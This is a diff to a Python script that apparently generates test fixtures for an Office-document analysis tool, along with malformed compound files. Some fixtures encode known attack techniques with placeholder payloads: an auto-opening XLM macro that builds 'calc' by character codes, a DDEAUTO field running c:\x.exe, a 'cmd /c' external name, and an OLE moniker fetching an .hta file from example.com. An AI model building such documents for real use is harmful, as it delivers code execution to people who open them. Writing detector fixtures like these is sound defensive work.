@@ -101,7 +101,93 @@ PROJ=b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00
 def doc(off=0):
     pre=bytes(range(256))*((off+255)//256); pre=pre[:off]
     return cfb({'WordDocument':b'\xec\xa5\xc1\0'+b'\0'*1500,'1Table':b'\0'*5000,'Macros':{'VBA':{'dir':compress(vbadir(['ThisDocument','Module1'],off)),'_VBA_PROJECT':b'\xcc\x61\xff\xff\0\0\0','ThisDocument':pre+compress(M1),'Module1':pre+compress(M2)},'PROJECT':PROJ,'PROJECTwm':b'ThisDocument\0T\0h\0\0\0'}})
+def biff(kind, body):
+    return struct.pack("<HH", kind, len(body)) + body
+def short(text):
+    return bytes([len(text), 0]) + text.encode("latin-1")
+def texts(parts):
+    """Tokens that join texts; letters that are numbers are made by CHAR."""
+    out = b""
+    for at, part in enumerate(parts):
+        out += b"\x17" + short(part) if isinstance(part, str) else b"\x1e" + struct.pack("<H", part) + b"\x41\x6f\0"
+        out += b"\x08" if at else b""
+    return out
+def workbook(disguised=False, encrypted=False, version=0x600):
+    bof = lambda kind: biff(0x809, struct.pack("<HHHHII", version, kind, 0, 0, 0, 0))
+    cell = lambda row, column: struct.pack("<HHH", row, column, 0)
+    formula = lambda row, column, tokens: biff(6, cell(row, column) + bytes(8) + struct.pack("<HIH", 0, 0, len(tokens)) + tokens)
+    sst = biff(0xfc, struct.pack("<II", 2, 2) + struct.pack("<HB", 5, 0) + b"http:" + struct.pack("<HB", 15, 0) + b"//ex") + biff(0x3c, b"\0ample.com/a")
+    macros = bof(0x40)
+    macros += formula(0, 0, texts(["ca", 108, "c"]) + b"\x42\1\x6e\0") + biff(0x207, struct.pack("<HB", 2, 0) + b"33")
+    macros += formula(1, 0, b"\x17" + short("Kernel32") + b"\x17" + short("Sleep") + b"\x17" + short("JJ") + b"\x1e\1\0\x42\4\x96\0")
+    macros += formula(2, 0, b"\x5a\0\0\1\0\2\0\x42\1\x11\x80") + formula(3, 0, b"\x42\0\x36\0")
+    macros += biff(0xfd, cell(4, 1) + struct.pack("<I", 1)) + biff(0x203, cell(5, 0) + struct.pack("<d", 99.5)) + biff(0x27e, cell(6, 0) + struct.pack("<I", 104 << 2 | 2))
+    macros += biff(0xbd, struct.pack("<HH", 7, 0) + struct.pack("<HIHI", 0, 105 << 2 | 2, 0, 106 << 2 | 2) + struct.pack("<H", 1)) + formula(8, 0, b"\x1e\1\0\xff\xff") + biff(10, b"")
+    cells = bof(0x10) + biff(0xfd, cell(0, 0) + struct.pack("<I", 0)) + biff(10, b"")
+    def globals(places):
+        out = bof(5) + (biff(0x2f, struct.pack("<HHH", 1, 1, 1) + bytes(48)) if encrypted else b"")
+        out += biff(0x85, struct.pack("<IBB", places[0], 2, 0 if disguised else 1) + short("Macro1")) + biff(0x85, struct.pack("<IBB", places[1], 0, 0) + short("Sheet1"))
+        out += biff(0x1ae, struct.pack("<HH", 2, 0x401)) + biff(0x1ae, struct.pack("<HHB", 0, 11, 0) + b"cmd\3/c none") + biff(0x17, struct.pack("<HHhh", 1, 0, 0, 0))
+        auto = b"\x3a\0\0\0\0\0\0"
+        out += biff(0x18, struct.pack("<HBBHHHBBBB", 0x21, 0, 1, len(auto), 0, 1, 0, 0, 0, 0) + b"\0\1" + auto)
+        return out + sst + biff(10, b"")
+    size = len(globals([0, 0]))
+    return globals([size, size + len(macros)]) + macros + cells
 if __name__=='__main__':
+    (OUT / "xlm.xls").write_bytes(cfb({"Workbook": workbook(), "\5SummaryInformation": b"x" * 50}))
+    (OUT / "xlm-disguised.xls").write_bytes(cfb({"Workbook": workbook(disguised=True)}))
+    (OUT / "xlm-encrypted.xls").write_bytes(cfb({"Workbook": workbook(encrypted=True)}))
+    (OUT / "xlm-cut.xls").write_bytes(cfb({"Workbook": workbook()[:450]}))
     (OUT / "macros.doc").write_bytes(doc())
     (OUT / "cut.doc").write_bytes(doc()[:7000])
     (OUT / "macros.xls").write_bytes(cfb({'Workbook':b'\x09\x08\x10\0\0\x06\x05\0'+b'\0'*5000,'_VBA_PROJECT_CUR':{'VBA':{'dir':compress(vbadir(['ThisDocument','Module1'],33)),'_VBA_PROJECT':b'\xcc\x61\xff\xff\0\0\0','ThisDocument':b'x'*33+compress(M1),'Module1':b'x'*33+compress(M2)},'PROJECT':PROJ}}))
+
+    import struct, zlib
+    text = b"A file in a document, which does nothing.\r\n" * 2
+    def package(label, path, data):
+        command = path.encode() + b"\0"
+        body = struct.pack("<H", 2) + label.encode() + b"\0" + path.encode() + b"\0" + struct.pack("<HHI", 0, 3, len(command)) + command
+        body += struct.pack("<I", len(data)) + data
+        for value in (path, label, path):
+            body += struct.pack("<I", len(value)) + value.encode("utf-16-le")
+        return struct.pack("<I", len(body)) + body
+    word = b"\xec\xa5\xc1\0" + b"\0" * 1500
+    native = package("note.txt", "C:\\a\\note.txt", text)
+    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
+    address = "http://example.com/a.hta\0".encode("utf-16-le")
+    (OUT / "objects.doc").write_bytes(cfb({
+        "WordDocument": word + b"\x13 DDEAUTO c:\\\\x.exe nothing\x14x\x15" + "\x13 INCLUDEPICTURE \"http://example.com/a.png\" \x15".encode("utf-16-le"),
+        "ObjectPool": {
+            "_1": {"\1Ole10Native": native, "\1CompObj": b"\1\0\xfe\xff" + b"\0" * 40},
+            "_2": {"\1oLE10nAtiVE": struct.pack("<I", 200) + b"BM not a package" + b"." * 184},
+            "_3": {"\1Ole": b"\1\0\0\2\1" + b"\0" * 11 + moniker + struct.pack("<I", len(address)) + address},
+            "_4": {"\1Ole10Native": native[:120]},
+            "_5": {"Package": b"PK\5\6" + b"\0" * 18},
+            "_6": {"WordDocument": b"\xec\xa5\xc1\0\0\0\0\0\0\0\0\1" + b"\0" * 100},
+        }}))
+    def record(kind, body, version=0):
+        return struct.pack("<HHI", version, kind, len(body)) + body
+    inner = cfb({"VBA": {"dir": compress(vbadir(["Module1"], 0)), "Module1": compress(M1)}})
+    files = record(0x1011, struct.pack("<I", len(inner)) + zlib.compress(inner), 0x10) + record(0x1011, inner) + record(0x1011, b"\0\0\0\0broken", 0x10)
+    (OUT / "files.ppt").write_bytes(cfb({"PowerPoint Document": record(1000, record(4085, b"atom") + files, 15), "Current User": b"x" * 20}))
+    (OUT / "stomped.doc").write_bytes(cfb({"WordDocument": word, "Macros": {"VBA": {
+        "dir": compress(vbadir(["ThisDocument", "Module1"], 2100)), "_VBA_PROJECT": b"\xcc\x61\xff\xff\0\0\0",
+        "ThisDocument": b"p" * 2100 + compress(b'Attribute VB_Name = "ThisDocument"\r\n'), "Module1": b"p" * 2100}}}))
+    (OUT / "lost.doc").write_bytes(cfb({"WordDocument": word, "Macros": {"Other": {"ThisDocument": b"p" * 99 + compress(M1), "Module1": b"\1" + struct.pack("<H", 0x3fff) + M2[:4096].ljust(4096, b" ")}}}))
+    (OUT / "wrong-offset.doc").write_bytes(cfb({"WordDocument": word, "Macros": {"VBA": {"dir": compress(vbadir(["Module1"], 7)), "Module1": b"p" * 99 + compress(M1)}}}))
+    (OUT / "damaged-dir.doc").write_bytes(cfb({"WordDocument": word, "Macros": {"VBA": {"dir": compress(vbadir(["Module1"], 0))[:40], "Module1": compress(M1)}}}))
+    whole = bytearray(cfb({"Data": bytes(range(256)) * 24, "Other": b"small"}))
+    broken = bytearray(whole)
+    table = 512 + 512 * struct.unpack_from("<I", whole, 76)[0]
+    struct.pack_into("<I", broken, table + 8, 0xfffffffe)
+    (OUT / "broken-chain.doc").write_bytes(broken)
+    moved = bytearray(whole)
+    struct.pack_into("<I", moved, 48, 1)
+    (OUT / "directory-elsewhere.doc").write_bytes(moved)
+    unused = bytearray(whole)
+    first = unused.find(b"D\0a\0t\0a\0")
+    unused[first + 120:first + 124] = struct.pack("<I", 4096)
+    struct.pack_into("<I", unused, table + 7 * 4, 0xfffffffe)
+    for sector in range(8, 12):
+        struct.pack_into("<I", unused, table + sector * 4, 0xffffffff)
+    (OUT / "unused.doc").write_bytes(bytes(unused) + b"behind all sectors" * 40)
